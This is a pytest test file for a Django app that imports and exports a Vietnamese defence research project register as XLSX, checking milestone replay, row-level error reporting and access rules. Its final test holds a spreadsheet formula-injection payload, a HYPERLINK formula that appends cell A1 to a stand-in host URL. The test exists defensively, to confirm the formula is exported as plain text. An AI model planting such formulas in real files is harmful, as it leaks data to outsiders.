"""The project register as XLSX: an import replays each project's milestones as steps, reports
every bad row by row and column and writes nothing then, and an exported register imports back
unchanged."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook

from cnqp.core.choices import Classification
from cnqp.core.models import AuditEntry, User
from cnqp.documents.factories import ProductTypeFactory
from cnqp.research.choices import ProjectStatus, Step
from cnqp.research.factories import ResearchProjectFactory
from cnqp.research.imports import ProjectRegisterImporter, register_xlsx
from cnqp.research.models import ProjectEvent, ResearchProject
from cnqp.research.report import research_figures

HEADER = ["Mã đề tài", "Tên đề tài, nhiệm vụ", "Cấp", "Đơn vị chủ trì", "Chủ nhiệm",
          "Mã chủng loại sản phẩm", "Bắt đầu theo kế hoạch", "Kết thúc theo kế hoạch",
          "Kinh phí quốc phòng (triệu đồng)", "Độ mật", "Ngày mở", "QĐ mở", "Ngày hoàn thành",
          "Ngày nghiệm thu", "Xếp loại", "Hội đồng nghiệm thu", "QĐ nghiệm thu",
          "Ngày áp dụng vào sản xuất", "Đơn vị áp dụng", "QĐ áp dụng"]


def xlsx(rows: list[list[Any]]) -> io.BytesIO:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def row(code: str, **cells: Any) -> list[Any]:
    values = {
        "Mã đề tài": code, "Tên đề tài, nhiệm vụ": f"Nghiên cứu chế tạo {code}",
        "Cấp": "Cấp Tổng cục", "Đơn vị chủ trì": "Z111", "Chủ nhiệm": "Đại tá Lê Văn Đức",
        "Bắt đầu theo kế hoạch": "01/03/2021", "Kết thúc theo kế hoạch": "31/12/2022",
        "Kinh phí quốc phòng (triệu đồng)": 1200, "Độ mật": "Thường",
    }
    values.update(cells)
    return [values.get(h) for h in HEADER]


@pytest.fixture
def manager(org: Any, make_user: Any) -> User:
    """Cục QLCN staff: research is in the department's domains, so they record decisions."""
    return make_user(["department_staff"], org.department, Classification.SECRET,
                     username="qlcn.import")


def run(user: User, rows: list[list[Any]]) -> Any:
    return ProjectRegisterImporter(user).run(xlsx([HEADER, *rows]), "so-dang-ky.xlsx")


FULL = dict(**{"Ngày mở": "15/03/2021", "QĐ mở": "101/QĐ-TCCNQP",
               "Ngày hoàn thành": "20/11/2022", "Ngày nghiệm thu": "15/12/2022",
               "Xếp loại": "Khá", "Hội đồng nghiệm thu": "Hội đồng cấp Tổng cục",
               "QĐ nghiệm thu": "55/QĐ-TCCNQP", "Ngày áp dụng vào sản xuất": "10/03/2023",
               "Đơn vị áp dụng": "Z111", "QĐ áp dụng": "12/QĐ-Z111"})


@pytest.mark.django_db
def test_milestones_are_replayed_as_steps_and_counted(org: Any, manager: User) -> None:
    ProductTypeFactory(code="SN-01")
    result = run(manager, [row("DT-A", **FULL, **{"Mã chủng loại sản phẩm": "SN-01"}),
                           row("DT-B", **{"Ngày mở": "01/04/2021", "QĐ mở": "102/QĐ-TCCNQP"}),
                           row("DT-C")])
    assert result.errors == [] and result.created == 3
    full = ResearchProject.objects.get(code="DT-A")
    assert full.status == ProjectStatus.APPLIED
    assert list(full.events.values_list("step", "on_date")) == [
        (Step.PROPOSE, dt.date(2021, 3, 15)), (Step.OPEN, dt.date(2021, 3, 15)),
        (Step.START, dt.date(2021, 3, 15)), (Step.COMPLETE, dt.date(2022, 11, 20)),
        (Step.ACCEPT, dt.date(2022, 12, 15)), (Step.APPLY, dt.date(2023, 3, 10))]
    assert ResearchProject.objects.get(code="DT-B").status == ProjectStatus.IN_PROGRESS
    assert ResearchProject.objects.get(code="DT-C").status == ProjectStatus.PROPOSED
    figures = research_figures(manager, dt.date(2021, 1, 1), dt.date(2021, 12, 31))
    assert (figures.in_execution, figures.opened) == (2, 2)
    assert research_figures(manager, dt.date(2023, 1, 1), dt.date(2023, 12, 31)).applied == 1


@pytest.mark.django_db
def test_a_bad_file_reports_every_row_and_writes_nothing(org: Any, manager: User) -> None:
    before = (ResearchProject.objects.count(), ProjectEvent.objects.count(),
              AuditEntry.objects.count())
    with translation.override("en"):
        result = run(manager, [
            row("DT-1"),  # valid: still not written
            row("DT-2", **{"Cấp": "Cấp huyện"}),
            row("DT-3", **{"Đơn vị chủ trì": "SD304"}),
            row("DT-4", **{"Ngày mở": "01/05/2021", "QĐ mở": "1/QĐ",
                           "Ngày hoàn thành": "01/04/2021"}),
            row("DT-5", **{"Ngày nghiệm thu": "01/05/2022", "Xếp loại": "Khá",
                           "Hội đồng nghiệm thu": "HĐ", "QĐ nghiệm thu": "2/QĐ"}),
            row("DT-6", **{"Độ mật": "Tuyệt mật"}),
            row("DT-7", **{"Kết thúc theo kế hoạch": "01/01/2020"}),
            row("DT-1"),
        ])
    by_row = {(e.row, e.column) for e in result.errors}
    assert (3, "Cấp") in by_row
    assert (4, "Đơn vị chủ trì") in by_row
    assert (5, "Ngày hoàn thành") in by_row
    assert (6, "Ngày nghiệm thu") in by_row  # accepted, but never opened nor completed
    assert (7, "Độ mật") in by_row  # above the manager's clearance
    assert (8, "Kết thúc theo kế hoạch") in by_row
    assert (9, "Mã đề tài") in by_row  # the same code twice
    assert 2 not in {e.row for e in result.errors}
    assert result.created == 0
    assert (ResearchProject.objects.count(), ProjectEvent.objects.count(),
            AuditEntry.objects.count()) == before


@pytest.mark.django_db
def test_enterprise_staff_cannot_record_decisions_through_an_import(
        org: Any, make_user: Any) -> None:
    staff = make_user(["enterprise_staff"], org.enterprise_a, Classification.CONFIDENTIAL)
    with translation.override("en"):
        result = run(staff, [row("DT-X", **{"Ngày mở": "01/04/2021", "QĐ mở": "1/QĐ"}),
                             row("DT-Y", **{"Đơn vị chủ trì": "Z113"})])
    assert {(e.row, e.column) for e in result.errors} >= {(2, "Ngày mở"),
                                                          (3, "Đơn vị chủ trì")}
    assert not ResearchProject.objects.exists()


@pytest.mark.django_db
def test_the_exported_register_imports_back_unchanged(org: Any, manager: User) -> None:
    ProductTypeFactory(code="SN-02")
    assert run(manager, [row("DT-R1", **FULL, **{"Mã chủng loại sản phẩm": "SN-02"}),
                         row("DT-R2")]).created == 2
    exported = register_xlsx(ResearchProject.objects.all())
    sheet = load_workbook(io.BytesIO(exported)).active
    assert sheet is not None
    assert [c.value for c in sheet[1]][:3] == ["Mã đề tài", "Tên đề tài, nhiệm vụ", "Cấp"]
    again = ProjectRegisterImporter(manager).run(io.BytesIO(exported), "export.xlsx")
    assert again.errors == [] and (again.created, again.updated, again.unchanged) == (0, 0, 2)


@pytest.mark.django_db
def test_an_existing_project_keeps_its_history(org: Any, manager: User) -> None:
    assert run(manager, [row("DT-H", **{"Ngày mở": "01/04/2021", "QĐ mở": "7/QĐ"})]).created
    with translation.override("en"):
        result = run(manager, [row("DT-H", **{"Ngày mở": "02/04/2021", "QĐ mở": "7/QĐ",
                                              "Tên đề tài, nhiệm vụ": "Tên mới"})])
    assert [(e.row, e.column) for e in result.errors] == [(2, "Ngày mở")]
    assert "changes only through its steps" in result.errors[0].message
    assert ResearchProject.objects.get(code="DT-H").title == "Nghiên cứu chế tạo DT-H"


@pytest.mark.django_db
def test_import_page_and_register_download(org: Any, manager: User, client_for: Any) -> None:
    client = client_for(manager)
    page = client.get("/research/import/projects/")
    assert page.status_code == 200 and "Mã đề tài" in page.content.decode()
    upload = SimpleUploadedFile("dk.xlsx", xlsx([HEADER, row("DT-P")]).getvalue())
    done = client.post("/research/import/projects/", {"file": upload})
    assert done.status_code == 200 and ResearchProject.objects.filter(code="DT-P").exists()
    download = client.get("/research/register.xlsx")
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(download.content)).active
    assert sheet is not None and sheet.cell(row=2, column=1).value == "DT-P"
    assert AuditEntry.objects.filter(action="export",
                                     object_type="research.researchproject").exists()


@pytest.mark.django_db
def test_a_title_written_as_a_formula_is_exported_as_text(org: Any, manager: User) -> None:
    """A title starting with "=" was written as a live formula into register.xlsx."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
    ResearchProjectFactory(code="DT-F", title=formula)
    sheet = load_workbook(io.BytesIO(register_xlsx(ResearchProject.objects.all()))).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=2)
    assert (cell.value, cell.data_type) == (formula, "s")
